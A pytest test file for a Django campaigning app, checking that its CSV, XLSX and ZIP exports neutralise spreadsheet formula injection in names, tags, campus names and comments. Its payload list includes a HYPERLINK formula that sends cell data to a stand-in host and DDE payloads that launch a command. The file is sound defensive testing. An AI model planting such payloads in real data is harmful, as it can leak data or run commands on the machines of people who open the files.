"""Every export a spreadsheet may open neutralises formulas, whoever typed the text.

Hostile text goes into the names people control (a signer's name, a supporter's name and tag, a
campus name, a content text, a comment), then each export is downloaded through its view and
read back: no text cell may start with = + - @ or a tab or carriage return, and no XLSX cell
may hold a formula.
"""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from campusvoice.campaigns.models import ContentItem
from campusvoice.campaigns.tests.factories import ContentItemFactory
from campusvoice.campuses.tests.factories import UniversityFactory
from campusvoice.conversations.tests.factories import CommentFactory
from campusvoice.petitions.tests.factories import PetitionFactory, SignatureFactory
from campusvoice.supporters.tests.factories import PersonFactory, PlatformIdentityFactory, TagFactory
from conftest import login_as

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells_of(name: str, body: bytes) -> list[str]:
    """Every text cell of a CSV, an XLSX or each CSV/XLSX inside a ZIP, as a spreadsheet sees it."""
    if name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(body)) as bundle:
            return [cell for inner in bundle.namelist() for cell in _cells_of(inner, bundle.read(inner))]
    if name.endswith(".xlsx"):
        cells = []
        for sheet in load_workbook(io.BytesIO(body)).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{name}: a formula in {cell.coordinate}: {cell.value!r}"
                    if isinstance(cell.value, str):
                        cells.append(cell.value)
        return cells
    if name.endswith(".csv"):
        text = body.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return []


def _assert_neutral(name: str, body: bytes, *, expect: str):
    cells = _cells_of(name, body)
    live = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not live, f"{name}: cells a spreadsheet would run: {live}"
    # The hostile text is there, shown as text: the export did not just drop it.
    assert any(expect in cell for cell in cells), f"{name}: {expect!r} missing"


@pytest.fixture
def admin_client(client, admin_user):
    return login_as(client, admin_user)


@pytest.mark.parametrize("payload", FORMULAS)
def test_supporter_exports_neutralise_names_and_tags(admin_client, payload):
    person = PersonFactory(given_name=payload, family_name=payload, campus=UniversityFactory(name=payload))
    person.tags.add(TagFactory(name=payload[:60]))

    for fmt in ("csv", "xlsx"):
        response = admin_client.get(reverse("supporters:person-export", kwargs={"fmt": fmt}))
        assert response.status_code == 200
        _assert_neutral(f"people.{fmt}", response.content, expect=payload.strip()[1:])


@pytest.mark.parametrize("payload", FORMULAS)
def test_signature_exports_neutralise_signer_names(admin_client, payload):
    petition = PetitionFactory()
    SignatureFactory(petition=petition, name=payload)

    for fmt in ("csv", "xlsx"):
        url = reverse("petitions:signature-export", kwargs={"pk": petition.pk, "fmt": fmt})
        response = admin_client.get(url)
        assert response.status_code == 200
        _assert_neutral(f"signatures.{fmt}", response.content, expect=payload.strip()[1:])


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_campaign_bundle_neutralises_texts_and_campus_names(admin_client, payload):
    item = ContentItemFactory(
        university=UniversityFactory(name=payload, country="US"),
        text=payload,
        status=ContentItem.Status.APPROVED,
    )
    item.campaign.universities.add(item.university)

    response = admin_client.get(reverse("campaigns:export", kwargs={"pk": item.campaign.pk}))

    assert response.status_code == 200
    _assert_neutral("bundle.zip", response.content, expect=payload.strip()[1:])


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_analytics_table_neutralises_campus_names(admin_client, payload):
    item = ContentItemFactory(university=UniversityFactory(name=payload))
    item.campaign.universities.add(item.university)

    for fmt in ("csv", "xlsx"):
        response = admin_client.get(reverse("analytics:table-export", kwargs={"fmt": fmt}))
        assert response.status_code == 200
        _assert_neutral(f"campuses.{fmt}", response.content, expect=payload.strip()[1:])


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_subject_access_export_neutralises_comment_text(admin_client, payload):
    person = PersonFactory(given_name=payload)
    comment = CommentFactory(text=payload, author_name=payload[:200])
    PlatformIdentityFactory(person=person, scoped_id=comment.author_platform_id, display_name=payload[:200])

    response = admin_client.post(reverse("privacy:person-export", kwargs={"pk": person.pk}))

    assert response.status_code == 200
    _assert_neutral("person.zip", response.content, expect=payload.strip()[1:])
